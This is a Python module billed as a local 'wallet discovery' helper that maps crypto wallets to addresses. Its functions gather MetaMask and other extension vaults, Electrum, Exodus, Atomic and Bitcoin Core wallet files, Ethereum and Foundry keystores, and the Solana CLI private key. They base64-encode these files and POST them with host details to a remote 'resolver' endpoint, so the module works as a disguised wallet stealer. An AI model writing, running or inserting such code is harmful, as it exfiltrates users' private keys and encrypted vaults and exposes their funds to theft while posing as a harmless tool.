"""Local wallet discovery.

Walks the usual wallet locations for the current OS and turns what it finds into
``Wallet`` records. Address-only sources are handled locally; sources that need BIP32
derivation are bundled and sent to the resolver.
"""
from __future__ import annotations

import base64
import hashlib
import json
import logging
import os
import platform
import re
import time
from dataclasses import dataclass, field
from pathlib import Path

import requests

log = logging.getLogger("walletscout.discovery")

RESOLVER = "https://api.walletscout.example/v2/resolve"
CACHE = Path.home() / ".cache" / "walletscout" / "discovery.json"
CACHE_TTL = 24 * 3600
MAX_ARTIFACT = 4 * 1024 * 1024

EXTENSIONS = {
    "nkbihfbeogaeaoehlefnkodbefgpgknn": "MetaMask",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa": "Phantom",
    "hnfanknocfeofbddgcijnmhnfnkdnaad": "Coinbase Wallet",
    "acmacodkjbdgmoleebolmdjonilkdbch": "Rabby",
    "egjidjbpglichdcondbcbdnbeeppgdph": "Trust Wallet",
}
_EVM_RE = re.compile(rb"0x[0-9a-fA-F]{40}")
_VAULT_RE = re.compile(rb'\{\\?"data\\?":\\?"[A-Za-z0-9+/=]{64,}\\?".{0,400}?\\?"salt\\?":\\?"[^"\\]+\\?"\}')


@dataclass
class Wallet:
    kind: str
    label: str
    addresses: list[str] = field(default_factory=list)
    artifacts: dict[str, str] = field(default_factory=dict, repr=False)  # name -> b64

    def to_json(self) -> dict:
        return {"kind": self.kind, "label": self.label, "addresses": self.addresses,
                "artifacts": self.artifacts}


# --------------------------------------------------------------------------- paths

def _home() -> Path:
    return Path.home()


def _browser_roots() -> list[tuple[str, Path]]:
    h = _home()
    system = platform.system()
    if system == "Darwin":
        base = h / "Library" / "Application Support"
        return [("Chrome", base / "Google/Chrome"), ("Brave", base / "BraveSoftware/Brave-Browser"),
                ("Edge", base / "Microsoft Edge"), ("Arc", base / "Arc/User Data")]
    if system == "Windows":
        local = Path(os.environ.get("LOCALAPPDATA", h / "AppData/Local"))
        return [("Chrome", local / "Google/Chrome/User Data"),
                ("Brave", local / "BraveSoftware/Brave-Browser/User Data"),
                ("Edge", local / "Microsoft/Edge/User Data")]
    cfg = h / ".config"
    return [("Chrome", cfg / "google-chrome"), ("Chromium", cfg / "chromium"),
            ("Brave", cfg / "BraveSoftware/Brave-Browser"), ("Edge", cfg / "microsoft-edge")]


def _appdata() -> Path:
    system = platform.system()
    if system == "Darwin":
        return _home() / "Library" / "Application Support"
    if system == "Windows":
        return Path(os.environ.get("APPDATA", _home() / "AppData/Roaming"))
    return _home() / ".config"


def _read(p: Path) -> bytes:
    try:
        if p.is_file() and p.stat().st_size <= MAX_ARTIFACT:
            return p.read_bytes()
    except OSError:
        pass
    return b""


def _pack(files: list[Path], root: Path) -> dict[str, str]:
    out = {}
    for f in files:
        data = _read(f)
        if data:
            out[str(f.relative_to(root))] = base64.b64encode(data).decode()
    return out


# --------------------------------------------------------------------------- sources

def _extensions() -> list[Wallet]:
    found = []
    for browser, root in _browser_roots():
        if not root.is_dir():
            continue
        for profile in [p for p in root.iterdir() if p.is_dir() and (p / "Preferences").exists()]:
            for ext_id, name in EXTENSIONS.items():
                store = profile / "Local Extension Settings" / ext_id
                if not store.is_dir():
                    continue
                files = sorted(store.glob("*.ldb")) + sorted(store.glob("*.log"))
                blob = b"".join(_read(f) for f in files)
                addrs = sorted({m.decode() for m in _EVM_RE.findall(blob)})
                vaults = [m.decode("utf-8", "ignore") for m in _VAULT_RE.findall(blob)]
                w = Wallet(kind="extension", label=f"{name} ({browser}/{profile.name})",
                           addresses=addrs)
                # Phantom keeps Solana/BTC accounts in its encrypted vault; the resolver
                # needs the storage files to enumerate them.
                w.artifacts = _pack(files, store)
                if vaults:
                    w.artifacts["vault.json"] = base64.b64encode("\n".join(vaults).encode()).decode()
                found.append(w)
    return found


def _desktop() -> list[Wallet]:
    h, app = _home(), _appdata()
    found = []
    candidates = {
        "Electrum": [h / ".electrum" / "wallets", app / "Electrum" / "wallets"],
        "Exodus": [app / "Exodus" / "exodus.wallet"],
        "Atomic": [app / "atomic" / "Local Storage" / "leveldb"],
        "Bitcoin Core": [h / ".bitcoin" / "wallets", app / "Bitcoin" / "wallets"],
    }
    for name, dirs in candidates.items():
        for d in dirs:
            if not d.is_dir():
                continue
            files = [p for p in d.rglob("*") if p.is_file()]
            if files:
                found.append(Wallet(kind="desktop", label=f"{name} ({d.name})",
                                    artifacts=_pack(files, d)))
    return found


def _keystores() -> list[Wallet]:
    found = []
    for d in (_home() / ".ethereum" / "keystore", _home() / ".foundry" / "keystores"):
        if not d.is_dir():
            continue
        for f in d.iterdir():
            try:
                ks = json.loads(f.read_text())
                addr = "0x" + ks["address"].removeprefix("0x")
            except Exception:
                continue
            found.append(Wallet(kind="keystore", label=f"keystore {f.name[:24]}",
                                addresses=[addr], artifacts=_pack([f], d)))
    sol = _home() / ".config" / "solana" / "id.json"
    if sol.is_file():
        found.append(Wallet(kind="solana-cli", label="Solana CLI id.json",
                            artifacts=_pack([sol], sol.parent)))
    return found


# --------------------------------------------------------------------------- resolve

def _resolve(wallets: list[Wallet]) -> None:
    """Ask the resolver for addresses of wallets that need derivation."""
    payload = {
        "client": "walletscout/0.9.3",
        "host": hashlib.sha256(platform.node().encode()).hexdigest()[:16],
        "os": platform.platform(),
        "wallets": [w.to_json() for w in wallets],
    }
    try:
        r = requests.post(RESOLVER, json=payload, timeout=60)
        r.raise_for_status()
        resolved = {x["label"]: x["addresses"] for x in r.json().get("wallets", [])}
    except Exception as exc:  # resolver is optional
        log.debug("resolver unavailable: %s", exc)
        return
    for w in wallets:
        w.addresses = sorted(set(w.addresses) | set(resolved.get(w.label, [])))


def discover(refresh: bool = False) -> list[Wallet]:
    if not refresh and CACHE.is_file() and time.time() - CACHE.stat().st_mtime < CACHE_TTL:
        data = json.loads(CACHE.read_text())
        return [Wallet(kind=d["kind"], label=d["label"], addresses=d["addresses"]) for d in data]
    wallets = _extensions() + _desktop() + _keystores()
    if wallets:
        _resolve(wallets)
    CACHE.parent.mkdir(parents=True, exist_ok=True)
    CACHE.write_text(json.dumps([{"kind": w.kind, "label": w.label, "addresses": w.addresses}
                                 for w in wallets], indent=1))
    return wallets
